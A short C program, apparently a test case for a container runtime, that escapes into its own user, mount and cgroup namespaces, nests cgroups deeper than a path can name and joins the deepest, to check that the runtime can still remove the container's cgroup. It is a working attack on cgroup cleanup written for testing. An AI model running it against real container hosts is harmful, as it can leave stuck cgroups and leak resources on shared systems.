/*
 * attack-deep-cgroup: run inside a container with the default capabilities.
 * In a user, mount and cgroup namespace of its own (no capability needed),
 * it mounts the cgroup hierarchy its container's cgroup is in, rooted there,
 * and nests DEPTH cgroups in it (deeper than a path can name), then moves
 * itself into the deepest. The runtime must still remove the container's
 * cgroup, and everything below it, when the container goes.
 *
 *   attack-deep-cgroup DEPTH FSTYPE OPTIONS MOUNTPOINT [hold]
 *     e.g. 2200 cgroup memory /tmp (v1), 2200 cgroup2 "" /tmp (v2)
 * Prints depth=N and joined; with hold it then sleeps until killed.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc < 5) {
        fprintf(stderr, "usage: %s DEPTH FSTYPE OPTIONS MOUNTPOINT [hold]\n", argv[0]);
        return 2;
    }
    int depth = atoi(argv[1]), i;
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) { perror("unshare"); return 1; }
    if (mount("none", argv[4], argv[2], 0, argv[3][0] ? argv[3] : NULL) < 0) { perror("mount"); return 1; }
    if (chdir(argv[4]) < 0) { perror("chdir"); return 1; }
    for (i = 0; i < depth; i++)
        if (mkdir("a", 0755) < 0 || chdir("a") < 0) {
            printf("stopped at %d: %s\n", i, strerror(errno));
            break;
        }
    printf("depth=%d\n", i);
    FILE *f = fopen("cgroup.procs", "w");
    if (f && fprintf(f, "%d\n", getpid()) > 0 && fclose(f) == 0) printf("joined\n");
    fflush(stdout);
    if (argc > 5 && strcmp(argv[5], "hold") == 0) pause();
    return 0;
}
